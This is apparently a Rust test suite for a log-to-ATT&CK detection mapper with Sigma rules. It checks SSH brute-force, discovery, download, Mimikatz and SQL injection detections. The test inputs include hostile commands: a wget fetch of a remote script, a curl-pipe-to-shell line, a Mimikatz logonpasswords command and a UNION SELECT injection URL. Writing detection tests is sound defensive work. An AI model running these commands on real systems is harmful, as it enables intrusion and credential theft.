use super::*;
use crate::event::Value;

fn row(fields: &[(&str, &str)]) -> Row {
    fields
        .iter()
        .map(|(k, v)| (k.to_string(), Value::from(*v)))
        .collect()
}

fn techniques(mapper: &Mapper, row: &Row) -> Vec<String> {
    let mut ids: Vec<String> = mapper
        .match_row(row)
        .into_iter()
        .flat_map(|m| m.techniques)
        .collect();
    ids.sort();
    ids.dedup();
    ids
}

fn bundled() -> &'static Mapper {
    Mapper::bundled().expect("bundled rules load")
}

#[test]
fn bundled_rules_all_load() {
    let mapper = bundled();
    assert!(
        mapper.skipped().is_empty(),
        "skipped: {:?}",
        mapper.skipped()
    );
    assert_eq!(mapper.rule_count(), bundled::BUNDLED_RULES.len());
}

#[test]
fn bundled_list_matches_folder() {
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/data/rules");
    let mut on_disk: Vec<String> = walkdir::WalkDir::new(root)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.path().extension().is_some_and(|x| x == "yml"))
        .map(|e| e.path().strip_prefix(root).unwrap().display().to_string())
        .collect();
    on_disk.sort();
    let mut listed: Vec<String> = bundled::BUNDLED_RULES
        .iter()
        .map(|(p, _)| p.to_string())
        .collect();
    listed.sort();
    assert_eq!(listed, on_disk);
}

#[test]
fn own_rules_fire_on_examples() {
    let mapper = bundled();
    let mut failures = Vec::new();
    for (name, id, positive, negative, tagged) in own_rule_cases::CASES {
        let hits = mapper.match_row(&row(positive));
        match hits.iter().find(|m| m.rule_id == *id) {
            None => failures.push(format!("{name} missed its positive example")),
            Some(hit) if hit.techniques != tagged.to_vec() => {
                failures.push(format!("{name} reported {:?}", hit.techniques))
            }
            Some(_) => {}
        }
        if mapper
            .match_row(&row(negative))
            .iter()
            .any(|m| m.rule_id == *id)
        {
            failures.push(format!("{name} fired on its negative example"));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn own_rules_cover_every_file() {
    let own = bundled::BUNDLED_RULES
        .iter()
        .filter(|(p, _)| p.starts_with("argus/"))
        .count();
    assert_eq!(own_rule_cases::CASES.len(), own);
}

#[test]
fn story_ssh_failures_map_to_password_guessing() {
    let line = "Dec 10 06:55:46 gacrux sshd[24200]: Failed password for root from 5.101.40.81 \
                port 38278 ssh2";
    let ids = techniques(
        bundled(),
        &row(&[("sourcetype", "linux_secure"), ("_raw", line)]),
    );
    assert!(ids.contains(&"T1110.001".to_string()));
    assert!(ids.contains(&"T1110".to_string()));
}

#[test]
fn story_accepted_password_maps_to_valid_accounts() {
    let line = "Dec 10 07:01:02 gacrux sshd[24210]: Accepted password for ec2-user from \
                91.207.175.249 port 50212 ssh2";
    let ids = techniques(
        bundled(),
        &row(&[("sourcetype", "linux_secure"), ("_raw", line)]),
    );
    assert_eq!(ids, vec!["T1078".to_string()]);
}

#[test]
fn story_commands_map_to_discovery_and_download() {
    let cases = [
        ("whoami", "T1033"),
        ("uname -a", "T1082"),
        ("cat /etc/passwd", "T1087"),
        ("wget http://91.207.175.249/x.sh", "T1105"),
    ];
    for (command, expected) in cases {
        let raw = format!("type=EXECVE msg=audit(1702191400.1:301): cmd={command}");
        let ids = techniques(
            bundled(),
            &row(&[("sourcetype", "linux:audit"), ("_raw", &raw)]),
        );
        assert!(ids.contains(&expected.to_string()), "{command}: {ids:?}");
    }
}

#[test]
fn story_command_field_without_raw() {
    let ids = techniques(bundled(), &row(&[("_raw", "whoami"), ("host", "gacrux")]));
    assert!(ids.contains(&"T1033".to_string()));
}

#[test]
fn story_coinhive_dns_maps_to_resource_hijacking() {
    let dns = row(&[("sourcetype", "stream:dns"), ("query", "coinhive.com")]);
    assert_eq!(techniques(bundled(), &dns), vec!["T1496".to_string()]);
}

#[test]
fn story_windows_4625_maps_to_brute_force() {
    let event = row(&[
        ("sourcetype", "WinEventLog:Security"),
        ("EventCode", "4625"),
    ]);
    let ids = techniques(bundled(), &event);
    assert!(ids.contains(&"T1110".to_string()));
    assert!(ids.contains(&"T1110.001".to_string()));
}

#[test]
fn story_union_select_maps_to_exploit() {
    let request = row(&[
        ("sourcetype", "stream:http"),
        ("src_ip", "45.77.65.211"),
        (
            "url",
            "http://shop.example.com/p.php?id=1%20UNION%20SELECT%20name,pass%20FROM%20users",
        ),
    ]);
    assert_eq!(techniques(bundled(), &request), vec!["T1190".to_string()]);
}

#[test]
fn logsource_filters_sourcetype() {
    // An sshd failure line under a web sourcetype is not an SSH event.
    let line = "sshd[1]: Failed password for root from 5.101.40.81 port 1 ssh2";
    let ids = techniques(
        bundled(),
        &row(&[("sourcetype", "stream:http"), ("_raw", line)]),
    );
    assert!(!ids.contains(&"T1110.001".to_string()));
}

#[test]
fn sysmon_category_requires_event_id() {
    let sysmon = "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational";
    let create = row(&[
        ("sourcetype", sysmon),
        ("EventID", "1"),
        ("Image", r"C:\Windows\whoami.exe"),
    ]);
    let load = row(&[
        ("sourcetype", sysmon),
        ("EventID", "7"),
        ("Image", r"C:\Windows\whoami.exe"),
    ]);
    assert!(techniques(bundled(), &create).contains(&"T1033".to_string()));
    assert!(!techniques(bundled(), &load).contains(&"T1033".to_string()));
}

#[test]
fn multivalue_field_matches_any_value() {
    let mut event = row(&[("sourcetype", "stream:dns")]);
    event.insert(
        "query".into(),
        Value::Multi(vec!["example.org".into(), "coinhive.com".into()]),
    );
    assert_eq!(techniques(bundled(), &event), vec!["T1496".to_string()]);
}

#[test]
fn sigma_rule_fires_on_sysmon_row() {
    // SigmaHQ's "HackTool - Mimikatz Execution" keys on these command-line fragments.
    let event = row(&[
        (
            "sourcetype",
            "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
        ),
        ("EventID", "1"),
        ("Image", r"C:\Users\Public\m.exe"),
        (
            "CommandLine",
            "m.exe privilege::debug sekurlsa::logonpasswords exit",
        ),
    ]);
    let titles: Vec<String> = bundled()
        .match_row(&event)
        .into_iter()
        .map(|m| m.title)
        .collect();
    assert!(titles.iter().any(|t| t.contains("Mimikatz")), "{titles:?}");
}

#[test]
fn sigma_rule_fires_on_linux_process() {
    let event = row(&[
        ("sourcetype", "linux:audit"),
        ("Image", "/usr/bin/base64"),
        ("CommandLine", "base64 -d payload.b64"),
    ]);
    let ids = techniques(bundled(), &event);
    assert!(ids.contains(&"T1027".to_string()), "{ids:?}");
}

#[test]
fn unsupported_rule_is_skipped_with_reason() {
    let dir = tempfile::tempdir().unwrap();
    let text = "title: t\nid: r-1\nlogsource:\n  product: linux\ndetection:\n  sel:\n    \
                CommandLine|base64offset|contains: x\n  condition: sel\n";
    std::fs::write(dir.path().join("r.yml"), text).unwrap();
    let mapper = Mapper::from_dir(dir.path()).unwrap();
    assert_eq!(mapper.rule_count(), 0);
    assert_eq!(mapper.skipped().len(), 1);
    assert_eq!(mapper.skipped()[0].rule_id, "r-1");
    assert!(mapper.skipped()[0].reason.contains("base64offset"));
}

#[test]
fn aggregation_rule_is_skipped() {
    let dir = tempfile::tempdir().unwrap();
    let text = "title: t\nid: r-2\nlogsource:\n  product: linux\ndetection:\n  sel:\n    \
                _raw: x\n  condition: sel | count() > 5\n";
    std::fs::write(dir.path().join("r.yml"), text).unwrap();
    let mapper = Mapper::from_dir(dir.path()).unwrap();
    assert_eq!(mapper.skipped()[0].rule_id, "r-2");
}

#[test]
fn invalid_yaml_names_the_file() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("broken.yml"), "title: [unclosed\n").unwrap();
    let error = Mapper::from_dir(dir.path()).unwrap_err().to_string();
    assert!(error.contains("broken.yml"), "{error}");
}

#[test]
fn wildcards_and_all_modifier() {
    let dir = tempfile::tempdir().unwrap();
    let text = "title: t\nid: r-3\nlogsource:\n  product: linux\ndetection:\n  sel:\n    \
                CommandLine|contains|all:\n      - 'curl'\n      - '| sh'\n  sel2:\n    \
                Image: '*/cu?l'\n  condition: sel and sel2\ntags:\n  - attack.t1105\n";
    std::fs::write(dir.path().join("r.yml"), text).unwrap();
    let mapper = Mapper::from_dir(dir.path()).unwrap();
    let hit = row(&[
        ("Image", "/usr/bin/curl"),
        ("CommandLine", "curl -s http://x | sh"),
    ]);
    let half = row(&[
        ("Image", "/usr/bin/curl"),
        ("CommandLine", "curl -s http://x"),
    ]);
    assert_eq!(techniques(&mapper, &hit), vec!["T1105".to_string()]);
    assert!(mapper.match_row(&half).is_empty());
}

#[test]
fn real_openssh_log_failures_counted() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../shared/data/real/syslog/OpenSSH_2k.log"
    );
    let Ok(text) = std::fs::read_to_string(path) else {
        eprintln!("skipping: {path} is absent");
        return;
    };
    let mapper = bundled();
    let mut guessing = 0;
    let mut accepted = 0;
    for line in text.lines() {
        let ids = techniques(
            mapper,
            &row(&[("sourcetype", "linux_secure"), ("_raw", line)]),
        );
        guessing += usize::from(ids.contains(&"T1110.001".to_string()));
        accepted += usize::from(ids.contains(&"T1078".to_string()));
    }
    // grep -c -i -E "Failed password for|Invalid user |authentication failure;" OpenSSH_2k.log
    assert_eq!(guessing, 1246);
    // grep -c -i -E "Accepted (password|publickey|keyboard-interactive)" OpenSSH_2k.log
    assert_eq!(accepted, 1);
}
